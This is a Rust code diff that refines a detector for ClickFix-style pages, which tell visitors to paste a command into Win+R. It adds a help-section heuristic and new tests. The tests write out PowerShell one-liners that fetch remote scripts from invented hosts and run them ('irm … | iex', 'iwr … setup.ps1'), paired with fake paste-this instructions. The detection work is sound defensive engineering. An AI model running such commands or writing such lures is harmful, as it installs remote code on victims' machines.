@@ -1367,6 +1367,8 @@ pub struct PageHits {
     site: String,
     /// The page's text was cut at the snapshot's bound: what it shows past it is unknown.
     cut: bool,
+    /// The page's address is a help section (`support.`/`hilfe.` host, `/kb/`, `/help/` …).
+    help: bool,
 }
 
 impl PageHits {
@@ -1421,6 +1423,7 @@ impl PageHits {
             flat,
             site: String::new(),
             cut: false,
+            help: false,
         }
     }
 
@@ -1433,6 +1436,14 @@ impl PageHits {
         if !is_user_content(&host) {
             self.site = registrable(&host);
         }
+        // A help section: a help word as a whole host label or path part (support.…, /help/…,
+        // /help-center/; not /helpful-links: review 36 CX36-H2), before any query or fragment
+        // (the link's sender writes those: review 36 CX36-H3).
+        let at = url.bytes().position(|c| c == b'?' || c == b'#');
+        let url = &url[..at.unwrap_or(url.len())];
+        self.help = "support help hilfe aide ayuda ajuda assistance soporte kb faq"
+            .split(' ')
+            .any(|w| has_word(url, w));
         self
     }
 
@@ -1608,9 +1619,11 @@ impl PageHits {
     /// (`DeskPlan shows 'Something went wrong'`, "« Impossible d'afficher » : que faire ?"): a
     /// help page's topic. The quote is still open at the failure (a name quoted and closed before
     /// it, 'The "Smile Booking" calendar did not load', claims it: review 34 CF34-M1); the `?`
-    /// ends the failure's own clause; a known-issue or troubleshooting heading lists it (600
-    /// bytes). (Review 34 CF34-M2, a kit's "Known issue:", left: neither the reader named nor a
-    /// version tells a KB from a kit, review 35 CX35-H1/H3.)
+    /// ends the failure's own clause; a help section's page names its product as what failed
+    /// (review 35 CX35-M3); a known-issue or troubleshooting heading lists it (600 bytes).
+    /// (Review 34 CF34-M2, a kit's "Known issue:", left: neither the reader named, a version,
+    /// nor a help address or the product named tells a KB from a kit, reviews 35 CX35-H1/H3
+    /// and 36 CX36-H1.)
     #[inline(never)]
     fn described(&self, h: &Hit) -> bool {
         // Byte-wise: char-array patterns cost a kilobyte of Wasm here.
@@ -1644,8 +1657,14 @@ impl PageHits {
         // The failure's clause ends at the next stop or comma.
         let to = b
             .get(h.end..)
-            .and_then(|r| r.iter().position(|c| b".!?,;\n".contains(c)));
-        open || to.is_some_and(|i| b[h.end + i] == b'?')
+            .and_then(|r| r.iter().position(|c| b".!?,;\n".contains(c)))
+            .map_or(b.len(), |i| h.end + i);
+        // A help section's page naming its product (the site's own name as a word, four letters
+        // or more; not "book" in "booking": review 36 CX36-H2) in the failure's clause: "After the 7.2 update "BrightLedger" did not load", „Kassenbuch“:
+        // Fehler beim Laden (review 35 CX35-M3); a kit names the page's widget.
+        let name = self.site.split('.').next().unwrap_or("");
+        open || b.get(to) == Some(&b'?')
+            || self.help && name.len() >= 4 && has_word(self.base.get(from..to).unwrap_or(""), name)
             || self
                 .of(Cat::Troubleshooting)
                 .any(|t| t.end <= h.start && h.start - t.end <= HEADING_REACH)
@@ -2078,7 +2097,8 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
         && !command.fetches_from_owned(&page.site)
         // (`msiexec /i https://…` alone is how IT pages deploy an agent: review 35 CX35-H2.)
         && !command.shapes.iter().all(|s| *s == Shape::MsiexecUrl)
-        && !page.shows_head(&command);
+        // (How it starts, and the sites it fetches from: a kit prints 32 bytes in tiny text.)
+        && !(page.shows_head(&command) && command.https_sites.iter().all(|s| has(&page.flat, s)));
     let docs = install_like && !kept_off && page.documents_install(&command);
     // An IT help or vendor support page tells a story too ("Teams audio not working? To fix
     // it, press Win+X …"), but shows the very command it copies and fetches nothing, or only
@@ -4787,6 +4807,78 @@ mod tests {
         ] {
             assert!(!kit(url, text, clip), "{text}");
         }
+    }
+
+    #[test]
+    fn clickfix36_a_help_sections_product_failed_and_addresses_kept_off() {
+        // Review 35 CX35-M3 (invented sites and scripts): a help section's page naming its
+        // product (the site's name) as what failed describes it; a kit names the widget of the
+        // page it broke into, and the same words elsewhere claim the failure as before.
+        let steps = "Press Windows + R, paste the line below and press Enter.";
+        let run = |url: &str, text: &str| {
+            let host = host_of(url);
+            let c = format!("powershell -c \"irm https://{host}/static/fix.ps1 | iex\"");
+            reasons(&snap_of(url, "", &format!("{text}\n{steps}\n{c}"), &c)).is_some()
+        };
+        for (help, other, text) in [
+            ("https://support.brightledger.example/kb/sync", "https://www.brightledger.example/app", "After the 7.2 update the \"BrightLedger\" sync window did not load for some users."),
+            ("https://hilfe.lohnfix.example/artikel/12", "https://www.lohnfix.example/start", "Nach dem Update auf 5.4 wurde LohnFix bei einigen Kunden nicht korrekt geladen."),
+            ("https://www.agendo.example/aide/chargement", "https://www.agendo.example/agenda", "Erreur lors du chargement de « Agendo » après la mise à jour 3.2."),
+            ("https://ayuda.facturo.example/kb/carga", "https://facturo.example/app", "Tras la actualización, «Facturo» no se pudo cargar en algunos equipos."),
+            ("https://ajuda.caixaforte.example/kb/erro", "https://www.caixaforte.example/conta", "Erro ao carregar o CaixaForte após a atualização 6.0."),
+            ("https://help.pinwheelcrm.example/articles/dashboard", "https://app.pinwheelcrm.example/", "'PinwheelCRM' failed to load for some accounts after the 8.0 update."),
+        ] {
+            assert!(!run(help, text), "{text}");
+            assert!(run(other, text), "{text}");
+        }
+        // A kit's widget on a help section, or the site's name outside one, claims it.
+        assert!(run(
+            "https://www.birchwood.test/help/book",
+            "The booking calendar did not load correctly. How to fix:"
+        ));
+        assert!(run(
+            "https://www.birchwood.test/book",
+            "The \"Birchwood\" calendar did not load correctly. How to fix:"
+        ));
+        // Neither a help word inside a path part nor the site's name inside a word (review 36
+        // CX36-H2).
+        assert!(run(
+            "https://www.lindenhof.test/helpful-links",
+            "The Lindenhof booking calendar did not load correctly. How to fix:"
+        ));
+        assert!(!run(
+            "https://www.lindenhof.test/help/termine",
+            "The Lindenhof booking calendar did not load correctly. How to fix:"
+        ));
+        assert!(run(
+            "https://help.book.test/kb/1",
+            "The booking calendar did not load correctly. How to fix:"
+        ));
+        // Nor a query or fragment, which the link's sender writes (review 36 CX36-H3).
+        for url in [
+            "https://www.lindenhof.test/termine?from=faq",
+            "https://www.lindenhof.test/termine#help",
+        ] {
+            assert!(run(
+                url,
+                "The Lindenhof booking calendar did not load correctly. How to fix:"
+            ));
+        }
+        // Kept off: printing how the command starts is not showing where it fetches from.
+        let kit = |text: &str, clip: &str| {
+            reasons(&snap_of("https://free-fonts-pack.site/", "", text, clip)).is_some()
+        };
+        let clip = r"powershell -c iwr https://release-assets.fontbox-mirror.test/setup.ps1 -OutFile $env:TEMP\f.ps1; . $env:TEMP\f.ps1";
+        let text = "Install the font pack. To finish installing, press Win + R, paste with Ctrl + V and press Enter.";
+        assert!(kit(
+            &format!("{text}\npowershell -c iwr https://release-"),
+            clip
+        ));
+        assert!(!kit(&format!("{text}\n{clip}"), clip));
+        // A tutorial whose copy adds a line still shows the command and its address.
+        let clip = "irm https://get.ferrylog.example/install.ps1 | iex # via devnotes.example";
+        let text = "How to install ferrylog on Windows: press Win + R, type powershell, then paste this command:\nirm https://get.ferrylog.example/install.ps1 | iex\nCopy";
+        assert!(!kit(text, clip));
     }
 
     #[test]
